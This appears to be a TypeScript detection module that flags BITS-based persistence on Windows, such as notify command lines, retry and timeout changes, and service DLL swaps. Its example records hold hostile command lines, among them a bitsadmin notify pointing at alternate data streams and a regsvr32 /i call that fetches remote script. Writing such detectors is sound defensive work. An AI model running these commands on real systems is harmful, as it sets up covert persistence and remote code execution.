/** What outlives the command: programs that BITS starts, jobs that never end, a service that runs something else. */
import type { Facts, Place } from '../../windows/index.js';
import { isUserWritable } from '../places.js';
import type { Signal } from '../signal.js';
import { has, placeText, programName } from '../words.js';
import { proxies } from './execution.js';

const interpreters = [...proxies, 'cmd', 'powershell', 'pwsh', 'curl', 'bitsadmin', 'net', 'sc', 'reg', 'python', 'java', 'msiexec'];

function program(facts: Facts, holds: (place: Place) => boolean): Place | undefined {
  return facts.notify.map((notify) => notify.program).find((place) => place !== undefined && holds(place));
}

/** Values of the policy key; its others, such as limits of bandwidth, are an administrator's daily work. */
const lifetimes = /jobinactivitytimeout|maxdownloadtime/i;

const isSet = (facts: Facts): boolean => facts.tools[0] !== 'notify' && !has(facts, 'notifyset', 'notifyfailed', 'notifyrun') && (facts.notify.length > 0 || has(facts, 'setnotifycmdline'));
const notifyWith = (words: string): Signal['examples'] => [{ process_name: 'bitsadmin.exe', process: `bitsadmin /setnotifycmdline job ${words}` }];
const child = (image: string): Signal['examples'] => [{ process_path: image, process: image, parent_process_path: 'C:\\Windows\\System32\\svchost.exe', parent_process: 'C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s BITS' }];

export const persistenceSignals: readonly Signal[] = [
  { id: 'notify-set', family: 'persistence', impact: 75, confidence: 72, techniques: ['T1197'], reason: (facts) => (isSet(facts) ? `BITS is told to start ${programText(facts)} when the job ends or fails` : undefined), examples: notifyWith('C:\\d\\a.exe NULL') },
  { id: 'notify-logged', family: 'persistence', impact: 75, confidence: 72, techniques: ['T1197'], reason: (facts) => (has(facts, 'notifyset') ? 'the log says that a job was given a program to start' : undefined), examples: [{ SourceName: 'Microsoft-Windows-Bits-Client', EventCode: '6', jobTitle: 'n', jobId: '{6F364A04-6299-4349-A8B6-34BED5E400EF}', jobOwner: 'EXAMPLE\\pat' }] },
  { id: 'notify-failed', family: 'persistence', impact: 75, confidence: 72, techniques: ['T1197'], reason: (facts) => (has(facts, 'notifyfailed') ? `BITS tried to start ${programText(facts)} for a job and failed; it tries again` : undefined), examples: [{ SourceName: 'Microsoft-Windows-Bits-Client', EventCode: '64', Job: 'n', Url: 'https://files.example.net/a', Pgm: 'C:\\d\\a.exe', hr: '2147942402' }] },
  { id: 'notify-run', family: 'persistence', impact: 80, confidence: 72, techniques: ['T1197'], reason: (facts) => (has(facts, 'notifyrun') ? `BITS started ${facts.actor.image === undefined ? 'a program' : placeText({ text: facts.actor.image, kind: 'local' })} for a job` : undefined), examples: child('C:\\d\\a.exe') },
  { id: 'notify-interpreter', family: 'persistence', impact: 85, confidence: 50, techniques: ['T1197'], reason: (facts) => named(program(facts, ({ text }) => interpreters.includes(programName(text))), (name) => `${name} runs whatever it is given as parameters`), examples: notifyWith('regsvr32.exe "/s a.dll"') },
  { id: 'notify-user-folder', family: 'persistence', impact: 80, confidence: 45, techniques: ['T1197'], reason: (facts) => named(program(facts, isUserWritable), (name) => `the program to start, ${name}, lies where any user may write`), examples: notifyWith('C:\\Users\\Public\\a.exe NULL') },
  { id: 'notify-stream', family: 'persistence', impact: 90, confidence: 80, techniques: ['T1197', 'T1564.004'], reason: (facts) => named(program(facts, ({ stream }) => stream !== undefined), (name) => `the program to start, ${name}, is an alternate data stream`), examples: notifyWith('C:\\d\\a.txt:b.exe NULL') },
  { id: 'notify-url', family: 'persistence', impact: 85, confidence: 60, techniques: ['T1197'], reason: ({ notify }) => (notify.some(({ parameters }) => /https?:\/\//i.test(parameters ?? '')) ? 'the program to start is given a URL' : undefined), examples: notifyWith('regsvr32.exe "/s /i:https://files.example.net/a scrobj.dll"') },
  { id: 'retry-often', family: 'persistence', impact: 70, confidence: 74, techniques: ['T1197'], reason: (facts) => (facts.tools.includes('bitsadmin') && (has(facts, 'setminretrydelay') || facts.settings.some(({ name }) => name === 'retrydelay')) ? 'the job is told how soon to try again, which keeps its program starting' : undefined), examples: [{ process_name: 'bitsadmin.exe', process: 'bitsadmin /setminretrydelay job 60' }] },
  { id: 'lifetime', family: 'persistence', impact: 70, confidence: 74, techniques: ['T1197', 'T1112'], reason: (facts) => (facts.settings.some(({ name, value }) => name === 'policy' && lifetimes.test(value ?? '')) ? 'the policy that ends idle or endless jobs is changed' : undefined), examples: [{ process_name: 'reg.exe', process: 'reg add HKLM\\Software\\Policies\\Microsoft\\Windows\\BITS /v JobInactivityTimeout /t REG_DWORD /d 0xffffffff /f' }] },
  { id: 'job-lifetime', family: 'persistence', impact: 65, confidence: 40, techniques: ['T1197'], reason: ({ settings }) => (settings.some(({ name }) => name === 'timeout' || name === 'maxdownloadtime') ? 'the time after which the job gives up is changed' : undefined), examples: [{ process_name: 'bitsadmin.exe', process: 'bitsadmin /setnoprogresstimeout job 1209600' }] },
  { id: 'service-program', family: 'persistence', impact: 90, confidence: 85, techniques: ['T1543.003'], reason: (facts) => (has(facts, 'setservicedll', 'setservicecommand', 'setfailurecommand') ? 'the program that the BITS service runs is changed' : undefined), examples: [{ registry_path: 'HKLM\\System\\CurrentControlSet\\Services\\BITS\\Parameters\\ServiceDll', registry_value_name: 'ServiceDll', registry_value_data: 'C:\\ProgramData\\a.dll', action: 'modified' }] },
];

function programText({ notify }: Facts): string {
  return named(notify[0]?.program, (name) => name) ?? 'a program';
}

function named(place: Place | undefined, sentence: (name: string) => string): string | undefined {
  return place && sentence(placeText(place));
}
